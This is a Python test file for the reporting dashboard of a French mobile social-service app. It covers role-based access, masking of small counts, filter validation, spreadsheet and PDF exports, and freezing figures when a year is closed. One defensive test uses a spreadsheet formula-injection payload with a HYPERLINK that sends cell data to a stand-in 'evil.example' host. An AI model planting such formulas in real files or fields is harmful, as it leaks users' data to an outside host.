"""The dashboard and its exports, by role; bad input; closing a year."""

import csv
import datetime
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from allervers.core.roles import Role
from allervers.planning.enums import CancelReason, StopStatus
from allervers.reception.questions import QUESTIONS
from allervers.reporting.models import YearClosure
from tests.html import text_of
from tests.planning.factories import SiteFactory, StopFactory
from tests.reception.factories import VisitFactory

from .conftest import YEAR

pytestmark = pytest.mark.django_db

YEAR_QUERY = {"periode": "annee", "annee": str(YEAR)}


def normalised(text: str) -> str:
    return re.sub(r"\s+", " ", text.replace("\u00a0", " ").replace("\u202f", " "))


def dashboard(client, **params):
    return client.get(reverse("reporting:dashboard"), {**YEAR_QUERY, **params})


PARAGRAPH = (
    "En un an, le bus a stationné 4 fois sur les 2 lieux de stationnement. "
    "Il a reçu 8 visites de 4 personnes différentes au moins, d'une durée moyenne de 46 minutes, "
    "soit 2,0 visites en moyenne par permanence. "
    "Les visites sans rendez-vous font 86 % des réponses connues, soit 75 % des visites. "
    "Les visites de femmes font 57 % des réponses connues, soit 50 % des visites. "
    "Les visites d'habitants du quartier du Regain font 71 % des réponses connues, "
    "soit 63 % des visites. "  # 5 of 8: 62.5 %, rounded half up
    "Les premières visites font 67 % des réponses connues, soit 50 % des visites."
)


def test_the_coordinator_reads_every_figure(client, dataset, coordinator):
    client.force_login(coordinator)
    response = dashboard(client)
    assert response.status_code == 200
    text = normalised(text_of(response))
    assert PARAGRAPH in text
    assert (
        "Démarches emploi (38 % des visites), CAF (25 % des visites), Santé (13 % des visites)"
        in text
    )
    assert (
        "5 orientations vers les partenaires ont été proposées, dont 2 déjà prises en charge "
        "(40 % des orientations)." in text
    )
    figures = {f.key: f for f in response.context["view"].key_figures}
    assert figures["visits"].value.text == "8"
    assert figures["visits"].previous.text == "1"
    assert normalised(figures["duration_median"].value.text) == "45 min"
    assert normalised(figures["take_up_rate"].value.text) == "40 %"
    assert normalised(figures["referral_delay_median"].value.text) == "7 jours"
    assert "Non renseigné" in text  # unknown answers are shown
    assert '<svg xmlns="http://www.w3.org/2000/svg" class="chart" role="img"' in text
    assert '<th scope="row">Place A</th>' in text
    # Every breakdown by site and by month, in collapsible sections with accessible tables.
    assert "Détail par lieu et par mois" in text
    assert "<summary>Tranches d'âge par lieu de stationnement</summary>" in text
    assert (
        '<caption id="legende-partenaires-mois">Partenaires par mois : année 2024</caption>' in text
    )
    assert '<th scope="row">Place A</th><th scope="row">Mission locale</th>' in text


def test_the_dashboard_makes_a_fixed_number_of_queries(
    client, dataset, coordinator, django_assert_max_num_queries
):
    client.force_login(coordinator)
    # 3 of them: appointments and workshops; 1 the default year (the last visit's); 4 the alerts
    # (2 per computation of the report)
    with django_assert_max_num_queries(53) as captured:
        dashboard(client)
    baseline = len(captured.captured_queries)
    stop = dataset.operator.stops.filter(date__year=YEAR).first()
    VisitFactory.create_batch(30, operator=dataset.operator, stop=stop)
    # More sites, with stops and visits in more months: still the same number of queries.
    for index in range(3):
        site = SiteFactory(operator=dataset.operator, name=f"Place {index}")
        for month in (2, 4, 8):
            other = StopFactory(
                operator=dataset.operator, site=site, date=datetime.date(YEAR, month, 3 + index)
            )
            VisitFactory.create_batch(2, operator=dataset.operator, stop=other)
    with django_assert_max_num_queries(baseline):
        response = dashboard(client)
    assert response.status_code == 200
    assert len(response.context["view"].report["by_site"]) == 5


def test_a_viewer_reads_small_counts_as_less_than_five(client, dataset, operator, make_member):
    client.force_login(make_member(operator, Role.VIEWER))
    response = dashboard(client)
    text = normalised(text_of(response))
    figures = {f.key: f for f in response.context["view"].key_figures}
    assert figures["visits"].value.text == "8"
    assert figures["people"].value.text == "< 5"
    # Counts of the service's own activity identify no one: shown as they are.
    assert figures["stops_held"].value.text == "4"  # s1, s2, s3 and s5
    assert figures["women_share"].value.text == "n.c."  # 4 women: the share would give it away
    assert "Il a reçu 8 visites, d'une durée moyenne de 46 minutes" in text
    assert "femmes" not in response.context["view"].paragraph  # its share is hidden
    for table in response.context["view"].all_tables:
        for row in table.rows:
            for value in table.figures(row):
                if value.about_people and isinstance(value.raw, int):
                    assert value.raw >= 5, (table.slug, row)


def test_a_partner_sees_its_own_organisation_only(client, dataset, operator, make_member):
    client.force_login(make_member(operator, Role.PARTNER, partner=dataset.p1))
    response = dashboard(client, partenaire=str(dataset.p2.pk))  # ignored: not its own
    assert response.status_code == 200
    view = response.context["view"]
    assert view.partner_name == "Mission locale"
    assert [
        row[0] for row in view.tables[[t.slug for t in view.tables].index("partenaires")].rows
    ] == ["Mission locale"]
    figures = {f.key: f for f in view.key_figures}
    # A partner reads small counts hidden, as a funder does: 2 visits, 3 referrals.
    assert view.masked
    assert figures["visits"].value.text == "< 5"
    assert figures["referrals"].value.text == "< 5"
    assert "PLIE" not in text_of(response).split('id="essentiel"')[1]


def test_an_agent_has_no_report(client, dataset, agent):
    client.force_login(agent)
    assert dashboard(client).status_code == 403


@pytest.mark.parametrize(
    "params, message",
    [
        ({"lieu": "999999"}, "Ce lieu de stationnement n'existe pas."),
        ({"lieu": "abc"}, "Ce lieu de stationnement n'existe pas."),
        ({"partenaire": "999999"}, "Ce partenaire n'existe pas."),
        (
            {"periode": "dates", "du": "2024-05-01", "au": "2024-01-01"},
            "La date de fin est avant la date de début",
        ),
        ({"periode": "dates", "du": "2024-13-45", "au": "2024-01-01"}, "Date de début invalide"),
        ({"periode": "dates", "du": "2024-01-01"}, "indiquez la date de début et la date de fin"),
        ({"annee": "deux mille"}, "Indiquez une année en chiffres"),
        (
            {"periode": "dates", "du": "0001-01-01", "au": "0001-01-02"},
            "Choisissez des dates entre 2000 et 2100.",
        ),
        (
            {"periode": "dates", "du": "2100-12-01", "au": "9999-12-31"},
            "Choisissez des dates entre 2000 et 2100.",
        ),
        ({"periode": "trimestre", "trimestre": "7"}, "Sélectionnez un choix valide"),
        ({"periode": "n'importe"}, "Sélectionnez un choix valide"),
    ],
)
def test_bad_filters_get_a_french_message(client, dataset, coordinator, params, message):
    client.force_login(coordinator)
    response = dashboard(client, **params)
    assert response.status_code == 400
    assert message in text_of(response)
    assert response.context["view"] is None
    export = client.get(reverse("reporting:export_xlsx"), {**YEAR_QUERY, **params})
    assert export.status_code == 400
    assert message in text_of(export)


def test_another_operators_site_is_unknown(client, dataset, other_operator, coordinator):
    from tests.planning.factories import SiteFactory

    client.force_login(coordinator)
    foreign = SiteFactory(operator=other_operator)
    assert "Ce lieu de stationnement n'existe pas." in text_of(dashboard(client, lieu=foreign.pk))


def test_a_year_without_data_is_an_empty_well_formed_report(client, dataset, coordinator):
    client.force_login(coordinator)
    response = dashboard(client, annee="2012")
    assert response.status_code == 200
    assert "En un an, le bus n'a tenu aucune permanence." in normalised(text_of(response))
    for name in ("export_pdf", "export_xlsx", "export_csv"):
        assert client.get(reverse(f"reporting:{name}"), {"annee": "2012"}).status_code == 200


def test_custom_dates_and_quarters(client, dataset, coordinator):
    client.force_login(coordinator)
    response = dashboard(client, periode="dates", du="2024-03-01", au="2024-07-31")
    figures = {f.key: f for f in response.context["view"].key_figures}
    assert figures["visits"].value.text == "5"  # March (3) and July (2)
    assert response.context["view"].previous_label == "du 30/09/2023 au 29/02/2024"  # 153 days
    response = dashboard(client, periode="trimestre", trimestre="1")
    assert response.context["view"].period.label == "1er trimestre 2024"
    assert response.context["view"].previous_label == "4e trimestre 2023"


def test_the_pdf_contains_the_results_paragraph(client, dataset, coordinator):
    client.force_login(coordinator)
    response = client.get(reverse("reporting:export_pdf"), YEAR_QUERY)
    assert response["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    text = normalised(" ".join(page.extract_text() for page in reader.pages))
    assert "Bilan d'activité" in text
    assert PARAGRAPH in text
    assert "Définitions" in text


def family_rows(workbook) -> dict:
    """The long-format rows of the family sheets: {(table, grouping, site or month, row,
    column): (number, text)}."""
    rows = {}
    families = ("Activité", "Public", "Thématiques", "Partenaires et orientations")
    # The screening's sheet: not in a partner's own report.
    for title in [*families, *{"Repérage des droits"} & set(workbook.sheetnames)]:
        sheet = list(workbook[title].iter_rows(values_only=True))
        assert list(sheet[0]) == [
            "Tableau",
            "Regroupement",
            "Lieu ou mois",
            "Ligne",
            "Colonne",
            "Valeur",
            "Texte affiché",
        ]
        for table, grouping, group, line, column, number, text in sheet[1:]:
            rows[(table, grouping, group or "", line or "", column)] = (number, text)
    return rows


def test_the_xlsx_holds_the_dashboards_figures(client, dataset, coordinator):
    client.force_login(coordinator)
    view = dashboard(client).context["view"]
    workbook = load_workbook(
        io.BytesIO(client.get(reverse("reporting:export_xlsx"), YEAR_QUERY).content)
    )
    # A summary, one sheet per family of breakdowns, the definitions.
    assert workbook.sheetnames == [
        "Résumé",
        "Activité",
        "Public",
        "Thématiques",
        "Partenaires et orientations",
        "Repérage des droits",
        "Rendez-vous et ateliers",
        "Définitions",
    ]
    summary = list(workbook["Résumé"].iter_rows(values_only=True))
    key_start = next(i for i, row in enumerate(summary) if row[0] == "Chiffres clés")
    read = {row[0]: row[1] for row in summary[key_start + 1 :]}
    for figure in view.key_figures:
        expected = figure.value.raw if figure.value.raw is not None else figure.value.text
        assert read[figure.label] == expected, figure.label
    assert read["Visites"] == 8
    assert read["Part de femmes"] == 0.57  # 4 / 7, as the page shows it: 57 %
    headline = {row[0]: row for row in summary[: key_start - 1] if row[0]}
    assert headline["Visites"][1:5] == (8, "visites", 1, "visite")
    # 6 families of figures and one per visit question (8 today), by site and by month.
    assert len(view.detail_tables) == 2 * (6 + len(QUESTIONS))
    rows = family_rows(workbook)
    count = 0
    for table in view.all_tables:
        for row in table.rows:
            labels = table.labels(row)
            grouping = {"by_site": "Par lieu", "by_month": "Par mois"}.get(
                table.group_key or table.key, "Ensemble"
            )
            if grouping != "Ensemble":
                group, line = labels[0], " — ".join(labels[1:])
            else:
                group, line = "", " — ".join(labels)
            for column, value in zip(table.figure_columns, table.figures(row), strict=True):
                number, text = rows[(table.caption, grouping, group, line, column)]
                assert text == value.text
                assert number == (value.raw if value.raw is not None else value.text)
                count += 1
    assert count == len(rows)
    assert rows[("Par lieu de stationnement", "Par lieu", "Place A", "", "Visites")][0] == 5
    ages = "Tranches d'âge par lieu de stationnement"
    assert rows[(ages, "Par lieu", "Place A", "", "26 à 49 ans")][0] == 3
    durations = "Durée des visites par lieu de stationnement"
    assert rows[(durations, "Par lieu", "Place A", "", "Durée médiane (min)")][0] == 55
    january = ("Partenaires par mois", "Par mois", "janvier 2024", "Mission locale")
    assert rows[(*january, "Visites où il a été rencontré")][0] == 2
    assert rows[(*january, "Orientations reçues")][0] == 1
    # Each cell holds the number shown, with the page's display format.
    activity = workbook["Activité"]
    formats = {
        (cell_row[4].value, cell_row[5].number_format)
        for cell_row in activity.iter_rows(min_row=2)
        if cell_row[0].value == "Par lieu de stationnement" and cell_row[2].value == "Place A"
    }
    assert ("Visites", "#,##0") in formats
    assert ("Visites par permanence", "0.0") in formats
    assert ("Part de femmes (réponses connues)", "0%") in formats


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_names_typed_by_users_never_become_formulas(client, dataset, operator, coordinator):
    """Sites, partners and topics are row and column labels of the XLSX and the CSV: a name
    a spreadsheet would run (= + - @) comes out with a leading apostrophe, as plain text."""
    names = {
        operator.sites.get(name="Place A"): '=HYPERLINK("http://evil.example/?"&A1)',
        operator.partners.get(name="Mission locale"): "+1",
        operator.topics.get(name="CAF"): "@SUM(1+1)",
    }
    for item, name in names.items():
        item.name = name
        item.save()
    neutral = {"'" + name for name in names.values()}
    client.force_login(coordinator)
    workbook = load_workbook(
        io.BytesIO(client.get(reverse("reporting:export_xlsx"), YEAR_QUERY).content)
    )
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert neutral <= texts
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]
    assert not [title for title in workbook.sheetnames if title.startswith(("'", *FORMULA_STARTS))]
    content = client.get(reverse("reporting:export_csv"), YEAR_QUERY).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content), delimiter=";"))
    assert neutral <= {cell for row in rows[1:] for cell in row[1:3]}  # row and column labels
    assert not [row for row in rows if any(cell.startswith(FORMULA_STARTS) for cell in row)]


def test_the_csv_lists_every_figure(client, dataset, operator, make_member):
    client.force_login(make_member(operator, Role.VIEWER))
    content = client.get(reverse("reporting:export_csv"), YEAR_QUERY).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content), delimiter=";"))
    assert rows[0] == ["tableau", "ligne", "colonne", "valeur", "texte"]
    assert ["Chiffres clés", "Visites", "année 2024", "8", "8"] in rows
    assert ["Chiffres clés", "Personnes différentes", "année 2024", "", "< 5"] in rows
    assert ["L'essentiel", "Visites", "année 2024", "8", "8"] in rows
    # The breakdowns by site, hidden the same way: Place A's 5 visits would give Place B's 3
    # away from the 8 of the year.
    assert [
        "Tranches d'âge par lieu de stationnement",
        "Place A",
        "Visites",
        "",
        "n.c.",
    ] in rows
    assert ["Tranches d'âge par lieu de stationnement", "Place A", "26 à 49 ans", "", "< 5"] in rows
    assert [
        "Partenaires par lieu de stationnement",
        "Place A — Mission locale",
        "Visites où il a été rencontré",
        "",
        "< 5",
    ] in rows
    assert [
        "Durée des visites par lieu de stationnement",
        "Place B",
        "Durée médiane (min)",
        "",
        "n.c.",
    ] in rows
    assert not [row for row in rows if row[0] == "Durée des visites par mois"]
    # No free text for viewers: no note, no referral reason, no name.
    assert "Inscription comme demandeur" not in content
    assert "Fatima" not in content


def test_closing_a_year_freezes_its_figures(client, dataset, coordinator):
    client.force_login(coordinator)
    response = client.post(reverse("reporting:year_close"), {"annee": str(YEAR)}, follow=True)
    assert f"L'année {YEAR} est close" in text_of(response)
    stop = dataset.operator.stops.filter(date__year=YEAR).first()
    VisitFactory.create_batch(3, operator=dataset.operator, stop=stop)  # a later correction
    view = dashboard(client).context["view"]
    assert view.closure is not None
    assert {f.key: f for f in view.key_figures}["visits"].value.text == "8"
    # The site's and the partners' figures were stored at closing too.
    filtered = dashboard(client, lieu=stop.site_id).context["view"]
    assert filtered.closure is not None and filtered.live_closure is None
    assert {f.key: f for f in filtered.key_figures}["visits"].value.text == "5"  # not 8

    again = client.post(reverse("reporting:year_close"), {"annee": str(YEAR)}, follow=True)
    assert f"L'année {YEAR} est déjà close." in text_of(again)
    assert YearClosure.objects.filter(year=YEAR).count() == 1

    refused = client.post(
        reverse("reporting:year_reopen"), {"annee": str(YEAR), "motif": " "}, follow=True
    )
    assert "Indiquez le motif de la réouverture." in text_of(refused)
    client.post(reverse("reporting:year_reopen"), {"annee": str(YEAR), "motif": "Oubli de saisie"})
    closure = YearClosure.objects.get(year=YEAR)
    assert (closure.reopened_by, closure.reopen_reason) == (coordinator, "Oubli de saisie")
    view = dashboard(client).context["view"]
    assert view.closure is None
    assert {f.key: f for f in view.key_figures}["visits"].value.text == "11"
    history = text_of(client.get(reverse("reporting:closures")))
    assert "Oubli de saisie" in history


def test_the_current_year_cannot_be_closed_and_bad_years_are_refused(client, coordinator):
    client.force_login(coordinator)
    response = client.post(reverse("reporting:year_close"), {"annee": "2999"}, follow=True)
    assert "n'est pas terminée" in text_of(response)
    response = client.post(reverse("reporting:year_close"), {"annee": "abc"}, follow=True)
    assert "Choisissez l'année à clore." in text_of(response)
    for year in ("0", "-4", "1999"):
        response = client.post(reverse("reporting:year_close"), {"annee": year}, follow=True)
        assert f"L'année {year} n'est pas une année du service." in text_of(response)
    response = client.post(
        reverse("reporting:year_reopen"), {"annee": "2001", "motif": "x"}, follow=True
    )
    assert "L'année 2001 n'est pas close." in text_of(response)
    assert not YearClosure.objects.exists()


def test_a_viewers_spreadsheet_hides_small_counts(client, dataset, operator, make_member):
    client.force_login(make_member(operator, Role.VIEWER))
    content = client.get(reverse("reporting:export_xlsx"), YEAR_QUERY).content
    workbook = load_workbook(io.BytesIO(content))
    # A small number may only be a count of the service's own activity, never of people.
    activity = {
        "Permanences tenues",
        "Permanences annulées",
        "Lieux de stationnement",
        "Permanences de soirée",
        "Permanences de journée",
        "Permanences avec un relevé",
        "Postes disponibles sur les permanences tenues",
        "Postes disponibles sur les permanences avec un relevé",
        "Permanences dans le bus",
        "Soirée (à partir de 17 h)",
        "Journée",
    }
    small = {
        (table, line, column)
        for (table, _grouping, _group, line, column), (number, _text) in family_rows(
            workbook
        ).items()
        if isinstance(number, int) and 0 <= number < 5
    }
    assert small
    unexpected = {cell for cell in small if cell[1] not in activity and cell[2] not in activity}
    assert not unexpected, unexpected
    summary = list(workbook["Résumé"].iter_rows(values_only=True))
    key_start = next(i for i, row in enumerate(summary) if row[0] == "Chiffres clés")
    key = {row[0]: row[1] for row in summary[key_start + 1 :]}
    assert key["Personnes différentes"] == "< 5"
    assert key["Visites"] == 8


def test_no_page_with_a_person_is_open_to_viewers():
    """The reception pages (visits, people, referrals) never let a viewer in."""
    from allervers.core.tenancy import GUARD_ATTRIBUTE
    from tests.operators.sweep import back_office_routes

    person_pages = [r for r in back_office_routes() if r.namespace == "reception"]
    assert person_pages
    for route in person_pages:
        assert Role.VIEWER not in getattr(route.callback, GUARD_ATTRIBUTE), route.name


def test_a_viewer_is_refused_the_list_of_visits(client, operator, make_member):
    client.force_login(make_member(operator, Role.VIEWER))
    assert client.get(reverse("reception:visit_list")).status_code == 403


def test_a_closed_years_filtered_figures_are_the_stored_ones(client, dataset, make_member):
    from allervers.reporting.services import year_close
    from tests.partners.factories import PartnerFactory
    from tests.planning.factories import SiteFactory

    coordinator = make_member(dataset.operator, Role.COORDINATOR)
    closure = year_close(operator=dataset.operator, year=YEAR, user=coordinator)
    assert {(f.kind, f.subject_name) for f in closure.filters.all()} == {
        ("site", "Place A"),
        ("site", "Place B"),
        ("partner", "Mission locale"),
        ("partner", "PLIE"),
    }
    # Later corrections: three more visits at Place A where the Mission locale was seen.
    stop = dataset.operator.stops.get(date=f"{YEAR}-01-15")
    for visit in VisitFactory.create_batch(3, operator=dataset.operator, stop=stop):
        visit.partners_seen.add(dataset.p1, through_defaults={"operator": dataset.operator})

    def read(user, **params):
        client.force_login(user)
        response = dashboard(client, **params)
        view = response.context["view"]
        return view, {f.key: f.value.text for f in view.key_figures}, normalised(text_of(response))

    view, figures, text = read(coordinator, lieu=dataset.site_a.pk)
    assert (view.closure, view.live_closure, figures["visits"]) == (closure, None, "5")
    assert "ce bilan montre les chiffres enregistrés à la clôture" in text
    assert "Détail par lieu et par mois" in text
    view, figures, _text = read(coordinator, partenaire=dataset.p1.pk)
    assert (view.closure, figures["visits"]) == (closure, "2")
    # A partner user reads its own stored figures.
    view, figures, _text = read(make_member(dataset.operator, Role.PARTNER, partner=dataset.p1))
    assert (view.closure, figures["visits"], figures["referrals"]) == (closure, "< 5", "< 5")
    # Live figures for what was not stored: a site and a partner together, a site created since.
    notice = (
        f"L'année {YEAR} est close, mais ces chiffres filtrés n'ont pas été enregistrés à la "
        "clôture : ils sont calculés sur les données actuelles"
    )
    view, figures, text = read(coordinator, lieu=dataset.site_a.pk, partenaire=dataset.p1.pk)
    assert (view.closure, view.live_closure, figures["visits"]) == (None, closure, "5")
    assert notice in text
    new_site = SiteFactory(operator=dataset.operator, name="Place C")
    view, _figures, text = read(coordinator, lieu=new_site.pk)
    assert view.live_closure == closure and notice in text
    new_partner = PartnerFactory(operator=dataset.operator, name="Nouveau partenaire")
    view, _figures, text = read(coordinator, partenaire=new_partner.pk)
    assert view.live_closure == closure and notice in text
    # The notice is in the exports too.
    client.force_login(coordinator)
    params = {**YEAR_QUERY, "lieu": new_site.pk}
    workbook = load_workbook(
        io.BytesIO(client.get(reverse("reporting:export_xlsx"), params).content)
    )
    summary = {row[0]: row[1] for row in workbook["Résumé"].iter_rows(values_only=True)}
    assert normalised(summary["Chiffres actuels"]).startswith(notice)
    pdf = PdfReader(io.BytesIO(client.get(reverse("reporting:export_pdf"), params).content))
    assert "ils sont calculés sur les données actuelles" in normalised(
        " ".join(page.extract_text() for page in pdf.pages)
    )
    # Reopened: every figure is live again, without the notice.
    services_reopen(dataset.operator, coordinator)
    view, figures, text = read(coordinator, lieu=dataset.site_a.pk)
    assert (view.closure, view.live_closure, figures["visits"]) == (None, None, "8")
    assert "calculés sur les données actuelles" not in text


def services_reopen(operator, user):
    from allervers.reporting.services import year_reopen

    year_reopen(operator=operator, year=YEAR, user=user, reason="Correction")


def test_a_partners_visits_per_presence(client, dataset, make_member):
    """A partner's ratio counts the visits where it was seen at the stops where it was present,
    per such stop; the whole bus's visits per stop is not shown for a partner."""
    # The Mission locale is also seen at v6 (s3, where it was not present).
    v6 = dataset.operator.visits.get(
        stop__date=f"{YEAR}-07-09", left_at__isnull=False, gender="female", person__isnull=False
    )
    v6.partners_seen.add(dataset.p1, through_defaults={"operator": dataset.operator})
    client.force_login(make_member(dataset.operator, Role.COORDINATOR))
    response = dashboard(client, partenaire=dataset.p1.pk)
    view = response.context["view"]
    figures = {f.key: f for f in view.key_figures}
    assert "visits_per_stop" not in figures
    ratio = figures["visits_per_presence"]
    assert ratio.label == (
        "Visites où le partenaire a été rencontré, par permanence où il était présent"
    )
    assert figures["visits"].value.text == "3"  # v1, v2 and v6
    assert figures["stops_held"].value.text == "2"  # s1 and s2
    assert ratio.value.text == "1,0"  # v1 and v2 (at s1) over s1 and s2, not 3 / 2
    text = normalised(text_of(response))
    assert "en moyenne par permanence" not in view.paragraph
    assert ratio.definition in text
    by_site = next(t for t in view.tables if t.slug == "lieux")
    assert by_site.columns[4] == ratio.label
    place_a = next(row for row in by_site.rows if row[0] == "Place A")
    assert place_a[4].text == "2,0"  # v1 and v2 at s1, the one stop at Place A where present


def test_a_year_closed_before_the_detail_tables_still_reads(client, dataset, coordinator):
    """Figures stored by an earlier version (no breakdowns by site and month, no ids): the page
    and the exports show what was stored, without the detail tables."""
    from allervers.reporting.services import year_close

    closure = year_close(operator=dataset.operator, year=YEAR, user=coordinator)
    figures = closure.figures
    for row in figures["topics"]:
        row.pop("topic_id")
    for row in figures["partners"]:
        row.pop("partner_id")
    for key in ("by_site", "by_month"):
        for row in figures[key]:
            for name in ("breakdowns", "topics", "cyber", "partners", "duration_median"):
                row.pop(name)
    figures.pop("filters")
    closure.save()
    client.force_login(coordinator)
    response = dashboard(client)
    assert response.status_code == 200
    view = response.context["view"]
    assert view.closure == closure and view.detail_tables == []
    assert {f.key: f for f in view.key_figures}["visits"].value.text == "8"
    for name in ("export_pdf", "export_xlsx", "export_csv"):
        assert client.get(reverse(f"reporting:{name}"), YEAR_QUERY).status_code == 200


@pytest.mark.parametrize(
    ("visit_years", "expected"),
    [((2025, 2026), 2026), ((2024,), 2024), ((), 2026)],
)
def test_the_dashboard_opens_on_the_current_year_when_it_has_data(
    client, coordinator, operator, visit_years, expected
):
    for year in visit_years:
        stop = StopFactory(operator=operator, date=datetime.date(year, 3, 2))
        VisitFactory(operator=operator, stop=stop)
    client.force_login(coordinator)
    response = client.get(reverse("reporting:dashboard"))
    assert f"Bilan : année {expected}" in response.content.decode()


def test_the_dashboard_opens_on_the_last_year_with_a_held_stop_even_without_visits(
    client, coordinator, operator
):
    """Appointments and workshops count as data: a year whose stops held only bookings is
    shown, and a cancelled or coming stop is no data."""
    StopFactory(operator=operator, date=datetime.date(2025, 3, 2))
    StopFactory(
        operator=operator,
        date=datetime.date(2026, 3, 2),
        status=StopStatus.CANCELLED,
        cancel_reason=CancelReason.WEATHER,
    )
    StopFactory(operator=operator, date=datetime.date(2026, 9, 2))
    client.force_login(coordinator)
    response = client.get(reverse("reporting:dashboard"))
    assert "Bilan : année 2025" in response.content.decode()
